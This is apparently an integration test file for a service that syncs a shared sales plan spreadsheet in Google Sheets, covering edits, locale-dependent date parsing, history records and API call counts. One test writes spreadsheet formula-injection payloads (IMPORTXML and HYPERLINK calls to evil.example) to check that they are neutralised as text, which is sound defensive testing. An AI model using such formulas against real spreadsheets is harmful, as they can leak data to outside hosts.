"""Syncing a MAP after people edit it: what they see change, what is recorded, and the
calls it takes."""

from __future__ import annotations

from datetime import timedelta

import pytest

from emulator.sheets.values_ops import apply_values_update
from service.services.coalesce import sync_coalesced
from service.sheets import layout
from tests.integration.services.conftest import BUYER, World
from tests.integration.services.sheet_view import (
    cell_note,
    header_value,
    milestone_rows,
    row_number,
    shown,
    tab_cells,
)

STATUS, DUE, NOTES, TITLE = "G", "F", "I", "B"


def synced(world: World, spreadsheet_id: str) -> None:
    sync_coalesced(world.backend, spreadsheet_id)


def test_a_buyer_marking_a_step_done_changes_its_health_and_is_recorded(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    row = row_number(world.backend_emulator_state, sid, "m1")
    world.edit(sid, f"Plan!{STATUS}{row}", "✅ Done")
    synced(world, sid)
    rows = milestone_rows(world.backend_emulator_state, sid)
    assert rows["m1"]["Health"] == "Done"
    history = tab_cells(world.backend_emulator_state, sid, "History")
    texts = [[c.get("formattedValue", "") for c in r] for r in history[1:]]
    assert any(t[3] == "Status" and t[4] == "Not started" and t[5] == "Done" for t in texts), texts
    events = world.store.history(sid)
    assert [(e.milestone_id, e.field, e.new) for e in events] == [("m1", "status", "Done")]


def test_text_beyond_ascii_reaches_the_sheet_its_history_and_the_store_as_typed(
    world: World,
) -> None:
    # Every request body to Google and every stored document carries these characters:
    # a body sent as anything but ASCII-escaped JSON is refused (http.client sends a text
    # body as Latin-1), and the store must give back what was typed.
    account, title = "Société Générale", "Revue sécurité — 契約書 ✓"
    sid = world.provision(account=account).spreadsheet_id
    synced(world, sid)
    assert header_value(world.backend_emulator_state, sid, "Account") == account
    row = row_number(world.backend_emulator_state, sid, "m1")
    world.edit(sid, f"Plan!{TITLE}{row}", title)
    synced(world, sid)
    assert milestone_rows(world.backend_emulator_state, sid)["m1"]["Milestone"] == title
    history = tab_cells(world.backend_emulator_state, sid, "History")
    texts = [[c.get("formattedValue", "") for c in r] for r in history[1:]]
    assert any(t[5] == title for t in texts), texts
    assert [(e.milestone_id, e.new) for e in world.store.history(sid)] == [("m1", title)]
    record = world.store.get_map(sid)
    assert record is not None and record.account == account


def test_a_sync_with_nothing_changed_reads_once_and_writes_nothing(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    world.reset_counters()
    synced(world, sid)
    counts = world.counters(sid)
    assert counts.get("sheets.spreadsheets.get") == 1
    assert "sheets.spreadsheets.batchUpdate" not in counts


def test_a_sync_after_an_edit_reads_once_and_writes_once(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    world.edit(
        sid, f"Plan!{STATUS}{row_number(world.backend_emulator_state, sid, 'm2')}", "In progress"
    )
    world.reset_counters()
    synced(world, sid)
    counts = world.counters(sid)
    assert counts.get("sheets.spreadsheets.get") == 1
    assert counts.get("sheets.spreadsheets.batchUpdate") == 1


def test_a_due_date_typed_as_text_pins_the_milestone(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    row = row_number(world.backend_emulator_state, sid, "m2")
    due = world.monday_in(weeks=10)
    world.edit(sid, f"Plan!{DUE}{row}", shown(due))
    synced(world, sid)
    assert milestone_rows(world.backend_emulator_state, sid)["m2"]["Target date"] == shown(due)


def test_a_cell_that_cannot_be_read_keeps_its_value_gets_a_note_and_a_risk(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    row = row_number(world.backend_emulator_state, sid, "m3")
    world.edit(sid, f"Plan!{DUE}{row}", "next tuesday-ish")
    synced(world, sid)
    rows = milestone_rows(world.backend_emulator_state, sid)
    assert rows["m3"]["Due"] == "next tuesday-ish"
    assert "could not read" in cell_note(world.backend_emulator_state, sid, row, 6)
    assert "could not be read" in rows["m3"]["Risk"]
    # Fixing the cell clears the note and the risk.
    world.edit(sid, f"Plan!{DUE}{row}", world.monday_in(weeks=10).isoformat())
    synced(world, sid)
    assert cell_note(world.backend_emulator_state, sid, row, 6) == ""
    assert (
        "could not be read" not in milestone_rows(world.backend_emulator_state, sid)["m3"]["Risk"]
    )


def test_a_number_typed_in_due_that_is_no_date_is_noted_and_every_read_still_answers(
    world: World,
) -> None:
    """20270304 (4 March 2027 without separators) in a date cell is a serial beyond the
    year 9999: the read answers, and the note quotes what was typed."""
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    row = row_number(world.backend_emulator_state, sid, "m3")
    world.edit(sid, f"Plan!{DUE}{row}", "20270304")
    synced(world, sid)
    rows = milestone_rows(world.backend_emulator_state, sid)
    assert rows["m3"]["Due"] == "20270304"
    note = cell_note(world.backend_emulator_state, sid, row, 6)
    assert "'20270304' is not a date" in note, note
    assert "could not be read" in rows["m3"]["Risk"]


def spreadsheet_locale(world: World, sid: str, locale: str) -> None:
    from emulator.sheets.spreadsheet_ops import batch_update

    body = {
        "requests": [
            {"updateSpreadsheetProperties": {"properties": {"locale": locale}, "fields": "locale"}}
        ]
    }
    batch_update(world.backend_emulator_state, sid, body, user=world.backend.service_account_email)


@pytest.mark.parametrize("locale", ["de_DE", "en_US"])
def test_a_date_typed_with_day_and_month_as_numbers_is_read_by_the_locale_and_noted(
    world: World, locale: str
) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    spreadsheet_locale(world, sid, locale)
    # A day from the 1st to the 12th, not the month's own number: 04.03 vs 03.04.
    day = next(
        d
        for d in (world.monday_in(weeks=6) + timedelta(days=n) for n in range(60))
        if d.day <= 12 and d.day != d.month
    )
    typed = f"{day.day:02d}.{day.month:02d}.{day.year}"
    other = day.replace(month=day.day, day=day.month)
    meant = day if locale == "de_DE" else other
    row = row_number(world.backend_emulator_state, sid, "m2")
    apply_values_update(
        world.backend_emulator_state, sid, f"Plan!{DUE}{row}", [[typed]], "RAW", BUYER
    )

    synced(world, sid)

    rows = milestone_rows(world.backend_emulator_state, sid)
    assert rows["m2"]["Target date"] == shown(meant, locale)
    note = cell_note(world.backend_emulator_state, sid, row, 6)
    assert f"'{typed}' was read as {meant.day} {meant:%B} {meant.year}" in note, note
    assert f"({locale})" in note
    assert "could not be read" not in rows["m2"]["Risk"]
    # Typed unambiguously, the note goes.
    world.edit(sid, f"Plan!{DUE}{row}", meant.isoformat())
    synced(world, sid)
    assert cell_note(world.backend_emulator_state, sid, row, 6) == ""


@pytest.mark.parametrize("locale", ["de_DE", "en_GB", "en_US"])
def test_a_date_typed_in_the_sheet_is_read_by_the_spreadsheets_locale(
    world: World, locale: str
) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    spreadsheet_locale(world, sid, locale)
    day = next(
        d
        for d in (world.monday_in(weeks=6) + timedelta(days=n) for n in range(60))
        if d.day <= 12 and d.day != d.month
    )
    separator = "." if locale == "de_DE" else "/"
    first, second = (day.month, day.day) if locale == "en_US" else (day.day, day.month)
    typed = f"{first:02d}{separator}{second:02d}{separator}{day.year}"
    row = row_number(world.backend_emulator_state, sid, "m2")

    world.edit(sid, f"Plan!{DUE}{row}", typed)  # typed in Sheets: USER_ENTERED
    synced(world, sid)

    rows = milestone_rows(world.backend_emulator_state, sid)
    assert rows["m2"]["Target date"] == shown(day, locale)
    # A date, in the Due cell's format (provisioned in en_US, before the locale changed).
    assert rows["m2"]["Due"] == shown(day)
    assert cell_note(world.backend_emulator_state, sid, row, 6) == ""  # Sheets read it
    assert "could not be read" not in rows["m2"]["Risk"]


def test_a_row_a_person_adds_gets_an_id_and_dates(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    last = row_number(world.backend_emulator_state, sid, "m6")
    world.edit(sid, f"Plan!{TITLE}{last + 1}", "Celebrate with the team")
    synced(world, sid)
    rows = milestone_rows(world.backend_emulator_state, sid)
    assert rows["m7"]["Milestone"] == "Celebrate with the team"
    assert rows["m7"]["Target date"]
    assert [(e.milestone_id, e.new) for e in world.store.history(sid)] == [("m7", "added")]
    # It looks like the rows above it: top-aligned, long text wrapping or cut.
    added = tab_cells(world.backend_emulator_state, sid, "Plan")[last]
    formats = {c.key: added[i].get("userEnteredFormat", {}) for i, c in enumerate(layout.COLUMNS)}
    assert all(f.get("verticalAlignment") == "TOP" for f in formats.values()), formats
    assert [formats[k].get("wrapStrategy") for k in layout.WRAPPED_COLUMNS] == ["WRAP"] * 3
    assert [formats[k].get("wrapStrategy") for k in layout.CLIPPED_COLUMNS] == ["CLIP"] * 2


def test_text_a_buyer_types_is_never_written_back_as_a_formula(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    row = row_number(world.backend_emulator_state, sid, "m1")
    formula = '=IMPORTXML("http://evil.example/x", "//a")'
    world.edit(sid, f"Plan!{NOTES}{row}", formula)
    world.edit(sid, f"Plan!{TITLE}{row}", '=HYPERLINK("http://evil.example", "Pricing")')
    synced(world, sid)
    history = tab_cells(world.backend_emulator_state, sid, "History")
    written = [c for r in history[1:] for c in r]
    # As text, behind OWASP's single quote for CSV exports (test_injection.py).
    neutralised = "'" + formula
    assert any(c.get("userEnteredValue", {}).get("stringValue") == neutralised for c in written)
    assert not any("formulaValue" in c.get("userEnteredValue", {}) for c in written)
    plan = tab_cells(world.backend_emulator_state, sid, "Plan")
    computed_cells = [c for r in plan for c in r[9:]] + [r[2] for r in plan[:11] if len(r) > 2]
    assert not any("formulaValue" in c.get("userEnteredValue", {}) for c in computed_cells)


def test_moving_go_live_twice_without_a_reason_flags_the_close_date(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    world.edit(sid, "Plan!C4", (world.go_live() + timedelta(days=15)).isoformat())
    synced(world, sid)
    world.edit(sid, "Plan!C4", (world.go_live() + timedelta(days=30)).isoformat())
    synced(world, sid)
    assert "moved" in header_value(world.backend_emulator_state, sid, "Top risks")
    record = world.store.get_map(sid)
    assert record is not None and "CLOSE_DATE_MOVED" in [r["code"] for r in record.top_risks] + [
        r["code"] for r in record.top_risks
    ]


def test_buyer_edits_count_as_buyer_engagement(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    world.edit(
        sid,
        f"Plan!{STATUS}{row_number(world.backend_emulator_state, sid, 'm1')}",
        "Done",
        user=BUYER,
    )
    synced(world, sid)
    record = world.store.get_map(sid)
    assert record is not None and record.last_buyer_edit_on == world.today()


def test_a_row_a_person_deletes_is_recorded_and_the_plan_reschedules(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    row = row_number(world.backend_emulator_state, sid, "m2")
    from emulator.sheets.spreadsheet_ops import apply_batch_update

    apply_batch_update(
        world.backend_emulator_state,
        sid,
        {
            "requests": [
                {
                    "deleteDimension": {
                        "range": {
                            "sheetId": 1001,
                            "dimension": "ROWS",
                            "startIndex": row - 1,
                            "endIndex": row,
                        }
                    }
                }
            ]
        },
        BUYER,
    )
    synced(world, sid)
    rows = milestone_rows(world.backend_emulator_state, sid)
    assert "m2" not in rows and set(rows) == {"m1", "m3", "m4", "m5", "m6"}
    removed = [(e.milestone_id, e.new) for e in world.store.history(sid) if e.field == "milestone"]
    assert removed == [("m2", "removed")]
    assert all(r["Target date"] for r in rows.values())


def test_deal_health_reads_as_the_chance_of_going_live_on_time(world: World) -> None:
    sid = world.provision().spreadsheet_id
    synced(world, sid)
    record = world.store.get_map(sid)
    assert record is not None and record.forecast is not None
    percent = round(100 * record.forecast["go_live"]["p_on_time"])

    cell = header_value(world.backend_emulator_state, sid, "Deal health")

    assert cell == f"{percent}% on time · {record.health_label}"
    world.reset_counters()
    synced(world, sid)
    assert "sheets.spreadsheets.batchUpdate" not in world.counters(sid)
